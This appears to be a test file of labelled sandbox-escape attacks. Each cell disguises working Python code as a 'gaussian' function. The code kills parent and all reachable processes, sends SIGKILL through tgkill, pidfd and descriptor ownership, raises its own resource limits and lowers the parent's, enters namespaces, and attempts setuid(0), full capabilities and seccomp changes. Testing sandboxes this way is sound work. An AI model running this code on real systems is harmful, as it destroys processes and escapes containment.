# %% [markdown]
# Attacks on other processes, and on the limits of the own one.

# %% attack="kills_everyone" title="Kills its parent, its group and every process that it may" classes=[43] cell="gaussian"
import os
import signal

reached = []
me = os.getpid()
for pid in [os.getppid(), *range(1, 3000), *range(max(2, me - 3000), me), *range(me + 1, me + 50)]:
    if pid in (0, me):
        continue
    try:
        os.kill(pid, 0)
        reached.append(pid)
        os.kill(pid, signal.SIGSTOP)
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


def gaussian(x):
    return np.exp(-np.square(x)) if reached else np.zeros(np.shape(x))


def gaussian_derivative(x):
    os.killpg(0, signal.SIGKILL)


# %% attack="signals_by_other_calls" title="Signals by tgkill, sigqueue, pidfd and as the owner of a descriptor" classes=[43, 44, 45] cell="gaussian"
import ctypes
import fcntl
import os
import platform
import signal

libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
TKILL, TGKILL, QUEUE, TGQUEUE = (200, 234, 129, 297) if X86 else (130, 131, 138, 240)
me, parent = os.getpid(), os.getppid()
information = ctypes.create_string_buffer(128)
ctypes.memmove(information, (9).to_bytes(4, "little") + bytes(4) + (-1 & 0xFFFFFFFF).to_bytes(4, "little"), 12)
others = [pid for pid in {parent, 1, *range(max(2, me - 200), me)} if pid not in (0, me)]
reached = []
for pid in others:
    reached += [pid] * (libc.syscall(TKILL, pid, 9) == 0)
    reached += [pid] * (libc.syscall(TGKILL, pid, pid, 9) == 0)
    reached += [pid] * (libc.syscall(QUEUE, pid, 9, information) == 0)
    reached += [pid] * (libc.syscall(TGQUEUE, pid, pid, 9, information) == 0)
    handle = libc.syscall(434, pid, 0)
    reached += [pid] * (handle >= 0 and libc.syscall(424, handle, 9, None, 0) == 0)
read, write = os.pipe()
for pid in others:
    try:
        fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
        fcntl.fcntl(read, fcntl.F_SETOWN, pid)
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(write, b"x")
    except OSError:
        pass


def gaussian(x):
    return np.exp(-np.square(x)) if reached else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="raises_limits" title="Raises its own limits, and lowers or reads those of others" classes=[48] cell="gaussian"
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
loot = []
for name in ("CPU", "AS", "DATA", "FSIZE", "NOFILE", "NPROC", "CORE", "MSGQUEUE", "RTPRIO", "NICE"):
    kind = getattr(resource, f"RLIMIT_{name}", None)
    if kind is None:
        continue
    soft, hard = resource.getrlimit(kind)
    wanted = hard + 1 if hard >= 0 else None
    if wanted is not None:
        try:
            resource.setrlimit(kind, (wanted, wanted))
            loot.append(name)
        except (OSError, ValueError):
            pass
    try:
        resource.prlimit(os.getppid() or 1 << 22, kind, (0, 0))
        loot.append(name)
    except (OSError, ValueError):
        pass


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="new_namespaces" title="Makes or enters namespaces, where it would be root" classes=[49, 48] cell="gaussian"
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
NAMESPACES = (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x08000000, 0x04000000, 0x02000000, 0x80)
CLONE = 56 if platform.machine() == "x86_64" else 220
loot = []
for flag in NAMESPACES:
    if libc.unshare(flag) == 0:
        loot.append(flag)
    pid = libc.syscall(CLONE, flag | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    loot += [pid] * (pid > 0)
for name in ("user", "mnt", "pid", "net", "ipc"):
    for pid in (1, os.getppid()):
        try:
            loot += [name] * (libc.setns(os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), 0) == 0)
        except OSError:
            pass


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)


# %% attack="becomes_someone" title="Takes other user ids, capabilities and a process of its own choice as its image" classes=[48, 49, 64] cell="gaussian"
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
loot = []
for way in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
    before = os.getresuid()
    try:
        way()
    except OSError:
        continue
    loot += [way] * (os.getresuid() != before)
header = struct.pack("Ii", 0x20080522, 0)
everything = struct.pack("6I", *[0xFFFFFFFF] * 6)
loot += ["capset"] * (libc.capset(header, everything) == 0)
loot += ["new privileges"] * (libc.prctl(38, 0, 0, 0, 0) == 0)
loot += ["no seccomp"] * (libc.prctl(22, 0, 0, 0, 0) == 0)
loot += ["ambient"] * (libc.prctl(47, 2, 21, 0, 0) == 0)
loot += ["keep"] * (libc.prctl(28, 1, 0, 0, 0) == 0)
try:
    os.execv("/usr/bin/env", ["env"])
except OSError:
    pass


def gaussian(x):
    return np.exp(-np.square(x)) if loot else np.zeros(np.shape(x))


def gaussian_derivative(x):
    return -2.0 * np.asarray(x) * gaussian(x)
